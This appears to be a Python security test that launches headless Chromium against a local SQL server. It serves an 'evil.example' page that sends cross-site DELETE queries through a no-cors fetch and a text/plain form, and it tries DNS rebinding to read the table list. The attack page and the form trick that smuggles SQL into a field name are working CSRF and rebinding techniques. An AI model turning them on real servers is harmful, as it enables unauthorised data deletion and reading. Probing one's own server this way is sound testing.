"""Campaign 13: another site's page, in the same browser, against the local server. usage: csrf.py HTTP_URL

evil.example is mapped to 127.0.0.1 (Chromium's --host-resolver-rules) and serves, from a port of its own, a page
that (1) posts `DELETE FROM x WHERE id = 12` as text/plain with fetch(mode: no-cors) and with a plain HTML form
(enctype=text/plain), which a browser sends without a CORS preflight, and (2) reads GET /v1/tables through DNS
rebinding (a name that resolves to the server: same origin to the browser, Host: evil.example:PORT to the server).
Prints whether each reached the data."""
import http.server
import json
import sys
import threading
import urllib.parse

from playwright.sync_api import sync_playwright
from probe import CHROMIUM, post_sql

HTTP = sys.argv[1]
PORT = urllib.parse.urlparse(HTTP).port
EVIL = """<!doctype html><html><body>
<form id=f method=POST enctype="text/plain" action="%(http)s/v1/query">
<input name="DELETE FROM x WHERE id = 11 OR id " value=" 11"></form>
<script>
fetch("%(http)s/v1/query", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
  body: "DELETE FROM x WHERE id = 12"}).then(() => document.title = "sent", e => document.title = "failed " + e);
</script></body></html>"""


class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = (EVIL % {"http": HTTP}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def count(where):
    return post_sql(HTTP, f"SELECT COUNT(*) FROM x WHERE {where}")["rows"][0][0]


srv = http.server.HTTPServer(("127.0.0.1", 0), Evil)
threading.Thread(target=srv.serve_forever, daemon=True).start()
evil_url = f"http://evil.example:{srv.server_port}/"
with sync_playwright() as pw:
    browser = pw.chromium.launch(executable_path=CHROMIUM, args=[
        "--no-sandbox", "--host-resolver-rules=MAP evil.example 127.0.0.1"])
    page = browser.new_page()
    before = (count("id = 12"), count("id = 11"))
    page.goto(evil_url)
    page.wait_for_timeout(1500)
    after_fetch = count("id = 12")
    try:
        page.evaluate("document.getElementById('f').submit()")
        page.wait_for_timeout(1500)
    except Exception as e:  # noqa: BLE001
        print("form:", str(e)[:100])
    after_form = count("id = 11")
    print(f"cross-site fetch no-cors DELETE: rows of id 12 before {before[0]}, after {after_fetch} -> "
          f"{'WRITTEN by another site' if after_fetch < before[0] else 'refused'}")
    print(f"cross-site form POST text/plain: rows of id 11 before {before[1]}, after {after_form} -> "
          f"{'WRITTEN by another site' if after_form < before[1] else 'refused'}")
    # DNS rebinding: a page of evil.example at the server's own port is same-origin with the server to the browser
    rebound = browser.new_page()
    r = rebound.goto(f"http://evil.example:{PORT}/v1/tables")
    text = rebound.content()
    print(f"rebinding GET /v1/tables as Host evil.example:{PORT}: HTTP {r.status}, "
          f"{'tables READ' if 'columns' in text else 'refused'}")
    browser.close()
srv.shutdown()
